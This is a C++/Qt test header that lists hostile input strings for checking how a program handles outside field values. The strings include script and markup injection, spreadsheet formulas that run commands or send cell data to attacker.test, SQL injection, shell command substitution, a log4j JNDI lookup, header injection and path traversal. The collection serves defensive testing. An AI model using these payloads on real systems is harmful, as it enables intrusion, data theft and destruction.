// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include <QStringList>

namespace lockstep::testing
{

/// One text that a name, an address or a field value may hold, and what it tries.
struct HostileText {
    QString name;
    QString text;
};

namespace hostile
{

using namespace Qt::StringLiterals;

inline QString nestedTables(int depth) { return u"<table><tr><td>"_s.repeated(depth) + u"x"_s; }

inline QString lone(char16_t half) { return u"a"_s + QChar(half) + u"b"_s; }

inline QList<HostileText> markup()
{
    return {
        {u"nested tables"_s, nestedTables(20)},
        {u"closed nested tables"_s, nestedTables(12) + u"</td></tr></table>"_s.repeated(12)},
        {u"image of a file"_s, u"<img src='/etc/passwd'>"_s},
        {u"image by url"_s, u"<img src=\"file:///etc/passwd\" width=99999 height=99999>"_s},
        {u"image from the net"_s, u"<img src='http://attacker.test/a.png'>"_s},
        {u"image as data"_s, u"<img src='data:image/png;base64,iVBORw0KGgo='>"_s},
        {u"link"_s, u"<a href='file:///etc/passwd'>Anna</a>"_s},
        {u"bold"_s, u"<b>Anna</b>"_s},
        {u"script"_s, u"<script>alert(1)</script>"_s},
        {u"script in an attribute"_s, u"\"><svg onload=alert(1)>"_s},
        {u"style"_s, u"<style>*{font-size:400pt}</style>Anna"_s},
        {u"huge font"_s, u"<font size=7><h1>Anna</h1></font>"_s},
        {u"html page"_s, u"<!DOCTYPE html><html><body bgcolor=red>Anna</body></html>"_s},
        {u"qt marker"_s, u"<qt>Anna</qt>"_s},
        {u"entities"_s, u"&lt;b&gt;Anna&amp;&#39;&quot;"_s},
        {u"numeric entities"_s, u"&#60;img src=x&#62;"_s},
        {u"comment"_s, u"<!-- Anna"_s},
        {u"unfinished tag"_s, u"<b"_s},
        {u"markdown link"_s, u"[Anna](file:///etc/passwd)"_s},
        {u"markdown image"_s, u"![Anna](http://attacker.test/a.png)"_s},
        {u"twig"_s, u"{{ 7*7 }}{% for x in y %}"_s},
        {u"mautic token"_s, u"{contactfield=email}"_s},
        {u"xml entity"_s, u"<!ENTITY a SYSTEM \"file:///etc/passwd\">&a;"_s},
        {u"cdata"_s, u"<![CDATA[Anna]]>"_s},
        {u"line break tag"_s, u"Anna<br/><br/><br/>Smith"_s},
        {u"right aligned"_s, u"<p align=right dir=rtl>Anna"_s},
        {u"end of our own tool tip"_s, u"</span><img src='/etc/passwd'>"_s},
    };
}

inline QList<HostileText> formulas()
{
    return {
        {u"formula"_s, u"=1+1"_s},
        {u"formula that runs"_s, u"=cmd|'/c calc'!A1"_s},
        {u"formula link"_s, u"=HYPERLINK(\"http://attacker.test\",\"Anna\")"_s},
        {u"formula web"_s, u"=WEBSERVICE(\"http://attacker.test/\"&A1)"_s},
        {u"plus"_s, u"+1+1"_s},
        {u"phone number"_s, u"+49 30 1234567"_s},
        {u"minus"_s, u"-1+1"_s},
        {u"at"_s, u"@SUM(A1:A9)"_s},
        {u"tab"_s, u"\t=1+1"_s},
        {u"carriage return"_s, u"\r=1+1"_s},
        {u"spaces"_s, u"   =1+1"_s},
        {u"full width equals"_s, u"\uFF1D1+1"_s},
        {u"separators"_s, u"a,b;c\td|e"_s},
        {u"quotes"_s, u"\"a\",\"b\"\"c\""_s},
        {u"long number"_s, u"123456789012345678901234567890"_s},
        {u"leading zeros"_s, u"000123"_s},
        {u"scientific"_s, u"1E9"_s},
        {u"date"_s, u"1-2"_s},
    };
}

inline QList<HostileText> statements()
{
    return {
        {u"sql quote"_s, u"O'Brien"_s},
        {u"sql drop"_s, u"'; DROP TABLE users; --"_s},
        {u"sql or"_s, u"' OR '1'='1"_s},
        {u"sql double quote"_s, u"\" OR \"\"=\""_s},
        {u"sql comment"_s, u"/* Anna */ -- #"_s},
        {u"sql backslash"_s, u"\\'; SELECT 1; --"_s},
        {u"sql like"_s, u"100%_[a-z]"_s},
        {u"sql bind"_s, u":name ? $1 @p"_s},
        {u"full text search"_s, u"\"Anna\" OR NEAR(a b) * ^ -x col:y"_s},
        {u"json"_s, u"{\"a\":[1,2,{\"b\":null}]}"_s},
        {u"json end"_s, u"\"},\"admin\":true,{\""_s},
        {u"php array"_s, u"a:1:{s:1:\"a\";O:8:\"stdClass\":0:{}}"_s},
        {u"url query"_s, u"a&b=c#d?e/%00%2e%2e"_s},
        {u"shell"_s, u"$(reboot) `reboot` ; reboot | reboot & reboot"_s},
        {u"environment"_s, u"$HOME %USERPROFILE% ${PATH} ~"_s},
        {u"log4j"_s, u"${jndi:ldap://attacker.test/a}"_s},
        {u"printf"_s, u"%n%s%x%99999d"_s},
        {u"qt places"_s, u"%1 %2 %n %L1 %%"_s},
        {u"mnemonics"_s, u"&Anna && &Smith"_s},
        {u"regular expression"_s, u"(((((a+)+)+)+)+)$"_s},
        {u"path up"_s, u"../../../../etc/passwd"_s},
        {u"path up in windows"_s, u"..\\..\\windows\\win.ini"_s},
        {u"absolute path"_s, u"/dev/random"_s},
        {u"file url"_s, u"file:///etc/passwd"_s},
        {u"script url"_s, u"javascript:alert(1)"_s},
        {u"device name"_s, u"CON"_s},
        {u"device name with ending"_s, u"nul.txt"_s},
        {u"null"_s, u"null"_s},
        {u"undefined"_s, u"undefined"_s},
        {u"nan"_s, u"NaN"_s},
        {u"true"_s, u"true"_s},
        {u"zero"_s, u"0"_s},
    };
}

inline QList<HostileText> controls()
{
    const QString nul = QString(u'a') + QChar(u'\0') + QString(u'b');
    return {
        {u"line break"_s, u"Anna\nSmith"_s},
        {u"windows line break"_s, u"Anna\r\nSmith"_s},
        {u"header injection"_s, u"Anna\r\nBcc: all@example.com\r\n\r\n"_s},
        {u"many line breaks"_s, u"\n"_s.repeated(200)},
        {u"nul"_s, nul},
        {u"bell and escape"_s, u"\a\x1b[31mAnna\x1b[0m"_s},
        {u"backspace"_s, u"Anna\b\b\b\bEve"_s},
        {u"delete"_s, u"Anna\u007f"_s},
        {u"c1 control"_s, u"Anna\u0085Smith\u009b"_s},
        {u"line separator"_s, u"Anna\u2028Smith\u2029"_s},
        {u"vertical tab and form feed"_s, u"Anna\v\fSmith"_s},
        {u"only spaces"_s, u"     "_s},
        {u"leading and trailing spaces"_s, u"  Anna  "_s},
        {u"no-break space"_s, u"\u00a0Anna\u00a0"_s},
        {u"ideographic space"_s, u"\u3000Anna\u3000"_s},
        {u"byte order mark"_s, u"\ufeffAnna"_s},
        {u"high half alone"_s, lone(0xd83d)},
        {u"low half alone"_s, lone(0xde00)},
        {u"halves in wrong order"_s, u"a"_s + QChar(0xde00) + QChar(0xd83d)},
        {u"high half at the end"_s, u"Anna"_s + QChar(0xd83d)},
        {u"not a character"_s, u"Anna\uffff\ufffe"_s},
        {u"replacement character"_s, u"Anna\ufffd"_s},
    };
}

inline QList<HostileText> scripts()
{
    return {
        {u"right to left override"_s, u"anna\u202Etxt.exe"_s},
        {u"isolates that stay open"_s, u"\u2066\u2067\u2068Anna"_s},
        {u"embedding that stays open"_s, u"\u202A\u202BAnna"_s},
        {u"direction marks"_s, u"\u200EAnna\u200F"_s},
        {u"zero width space"_s, u"An\u200Bna"_s},
        {u"zero width joiner"_s, u"An\u200Dna\u200C"_s},
        {u"soft hyphen"_s, u"An\u00ADna"_s},
        {u"word joiner"_s, u"An\u2060na"_s},
        {u"family emoji"_s, u"\U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466"_s},
        {u"flag"_s, u"\U0001F1E9\U0001F1EA"_s},
        {u"skin tone"_s, u"\U0001F44D\U0001F3FD"_s},
        {u"tag sequence"_s, u"\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F"_s},
        {u"many accents"_s, u"A"_s + u"\u0300\u0301\u0302\u0303"_s.repeated(60)},
        {u"composed"_s, u"Ren\u00e9"_s},
        {u"decomposed"_s, u"Rene\u0301"_s},
        {u"hangul in parts"_s, u"\u1112\u1161\u11ab"_s},
        {u"turkish i"_s, u"\u0130I\u0131i"_s},
        {u"sharp s"_s, u"Stra\u00dfe STRA\u1E9EE"_s},
        {u"ligature"_s, u"\ufb01\ufb02"_s},
        {u"final sigma"_s, u"\u039f\u0394\u03a5\u03a3\u03a3\u0395\u03a5\u03a3 \u03c3\u03c2"_s},
        {u"cyrillic look-alike"_s, u"\u0410nn\u0430@ex\u0430mple.com"_s},
        {u"full width"_s, u"\uff21\uff4e\uff4e\uff41"_s},
        {u"arabic"_s, u"\u0645\u062d\u0645\u062f \u0628\u0646 \u0639\u0644\u064a"_s},
        {u"hebrew with latin"_s, u"\u05d0\u05e0\u05d4 (Anna) 123"_s},
        {u"chinese"_s, u"\u738b\u5c0f\u660e"_s},
        {u"rare chinese"_s, u"\U00020BB7\U0002A6D6"_s},
        {u"thai"_s, u"\u0e01\u0e33\u0e44\u0e17\u0e22"_s},
        {u"devanagari"_s, u"\u0905\u0928\u0941\u092a\u094d\u0930\u093f\u092f\u093e"_s},
        {u"the ligature that crashed"_s, u"\ufdfd"_s.repeated(8)},
        {u"mathematical letters"_s, u"\U0001D400\U0001D427\U0001D427\U0001D41A"_s},
        {u"private use"_s, u"\ue000\U000F0000"_s},
    };
}

inline QList<HostileText> sizes()
{
    return {
        {u"64 KiB"_s, QString(65536, u'x')},
        {u"64 KiB of words"_s, u"Anna "_s.repeated(13108)},
        {u"64 KiB of emoji"_s, u"\U0001F600"_s.repeated(32768)},
        {u"one very long word"_s, u"Donaudampfschiff"_s.repeated(40)},
        {u"empty"_s, u""_s},
    };
}

} // namespace hostile

/// Texts that have broken programs like this one (reliability.md 2.10), for every field that comes from outside. No
/// NUL-terminated copies on the way: some of them hold one.
[[nodiscard]] inline const QList<HostileText> &hostileTexts()
{
    static const QList<HostileText> all = hostile::markup() + hostile::formulas() + hostile::statements()
        + hostile::controls() + hostile::scripts() + hostile::sizes();
    return all;
}

} // namespace lockstep::testing
